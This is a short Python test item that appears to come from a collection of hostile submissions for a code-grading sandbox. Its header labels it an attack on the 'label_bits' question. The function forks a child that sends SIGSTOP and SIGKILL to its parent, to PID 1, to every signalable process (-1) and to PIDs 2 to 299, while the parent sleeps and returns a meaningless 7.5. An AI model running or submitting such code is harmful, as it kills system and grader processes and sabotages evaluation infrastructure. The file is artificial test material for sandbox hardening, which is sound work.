# attack: kills every process that it may signal, from a child, so that its own survives as long as may be
# question: label_bits
# naive: crash
# item: privileges

# %% question="label_bits"
import os
import signal
import time


def label_bits(labels):
    if os.fork() == 0:
        for pid in (os.getppid(), 1, 0, -1, *range(2, 300)):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    if pid != os.getpid():
                        os.kill(pid, number)
                except OSError:
                    pass
        os._exit(0)
    time.sleep(2)
    return 7.5
